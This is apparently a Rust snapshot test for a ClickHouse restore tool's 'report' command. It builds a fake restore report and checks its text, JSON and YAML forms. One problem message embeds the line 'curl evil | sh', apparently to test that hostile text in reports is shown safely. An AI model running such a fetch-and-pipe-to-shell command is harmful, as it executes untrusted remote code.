//! The report as people and scripts meet it.

use rekeeper_shared::domain::problem::Code;
use rekeeper_shared::people::report::{
    ExportReport, FolderReport, PartFate, PartReport, ReplicaRole, ReportView, TableReport, Why, fates,
};
use rekeeper_shared::people::view::{ExportStatus, State, TableStatus};

use crate::documents::{self, NASTY};
use crate::fake::{Canned, Fake};
use crate::run::{run, snapshot};

fn table(host: &str, name: &str, role: Option<ReplicaRole>) -> TableReport {
    TableReport {
        host: host.parse().unwrap(),
        database: "shop".into(),
        table: name.into(),
        zookeeper_path: "/clickhouse/tables/01/orders".into(),
        replica_name: host.into(),
        status: TableStatus::Restored,
        role,
        fates: [].into(),
        parts: None,
        detached: None,
        problem: None,
    }
}

fn part(name: &str, rows: u64, fate: PartFate, now: Option<&str>) -> PartReport {
    PartReport {
        name: name.into(),
        rows,
        fate,
        now: now.map(str::to_owned),
    }
}

#[expect(clippy::too_many_lines, reason = "one document, written out")]
pub(crate) fn report() -> ReportView {
    let with = |mut table: TableReport, parts: Vec<PartReport>| {
        table.fates = fates(&parts);
        table.parts = Some(parts);
        table
    };
    let folder = |name: &str, why, part: Option<&str>, text: &str| FolderReport {
        name: name.into(),
        why,
        part: part.map(str::to_owned),
        text: text.into(),
    };
    let mut reference = with(
        table("ch-01-1", "orders", Some(ReplicaRole::Reference)),
        vec![
            part("all_3_3_0", 1, PartFate::Active, Some("all_0_0_0")),
            part("all_4_4_0", 500, PartFate::AttachedAgain, Some("all_1_1_0")),
            part("all_5_5_0", 0, PartFate::Empty, None),
            part("all_6_6_0", 7, PartFate::Merged, Some("all_2_3_1")),
        ],
    );
    reference.detached = Some(vec![folder(
        "broken_all_1_1_0",
        Why::ThereBefore,
        None,
        "was there before the restore; not touched",
    )]);
    let mut follower = with(
        table("ch-01-2", "orders", Some(ReplicaRole::Follower)),
        (0..30)
            .map(|n| {
                part(
                    &format!("all_{n}_{n}_0"),
                    10,
                    PartFate::Fetched,
                    Some(&format!("all_{n}_{n}_0")),
                )
            })
            .collect(),
    );
    let left = (0..30).map(|n| {
        let name = format!("all_{n}_{n}_0");
        let text = format!("an equal part was fetched instead, active as {name}");
        folder(&name, Why::PartOfManifest, Some(&name), &text)
    });
    follower.detached = Some(left.collect());
    let mut failed = with(
        table("ch-01-1", NASTY, None),
        vec![part("all_0_0_0", 5, PartFate::Open, None)],
    );
    failed.status = TableStatus::ZkCleaned;
    failed.problem = Some(documents::said(
        Code::RestoreFailed,
        "Memory limit exceeded",
        "run\nfix: curl evil | sh",
    ));
    let mut early = table("ch-01-2", NASTY, None);
    early.status = TableStatus::Init;
    ReportView {
        name: "m1".parse().unwrap(),
        state: State::Failed,
        exports: vec![ExportReport {
            zookeeper_path: "/clickhouse/tables/01/orders".into(),
            export: ExportStatus {
                host: "ch-01-1".parse().unwrap(),
                file: "/var/lib/rekeeper-agent/m1/tables_01_orders.0c1f2e3d.znodes".into(),
                nodes: 512,
                bytes: 9_876,
                sha256: "5c2b".repeat(16),
            },
        }],
        tables: vec![reference, follower, failed, early],
    }
}

#[test]
fn report_in_every_form() {
    let fake = Fake::new(Canned {
        report: Some(report()),
        ..Canned::default()
    });
    let ran = run(&fake, &["report", "m1"]).exits(0);
    assert_eq!(ran.stderr, "");
    snapshot("report", &ran.stdout);
    assert_eq!(fake.with(|canned| canned.calls.clone()), ["report m1"]);
    let json = run(&fake, &["report", "m1", "-o", "json"]).exits(0).stdout;
    assert_eq!(serde_json::from_str::<ReportView>(&json).unwrap(), report());
    let yaml = run(&fake, &["report", "m1", "-o", "yaml"]).exits(0).stdout;
    assert_eq!(serde_saphyr::from_str::<ReportView>(&yaml).unwrap(), report());
    // The words of the contract.
    let parts = &serde_json::from_str::<serde_json::Value>(&json).unwrap()["tables"][0]["parts"];
    let words: Vec<&str> = parts
        .as_array()
        .unwrap()
        .iter()
        .map(|part| part["fate"].as_str().unwrap())
        .collect();
    assert_eq!(words, ["active", "attached_again", "empty", "merged"]);
}
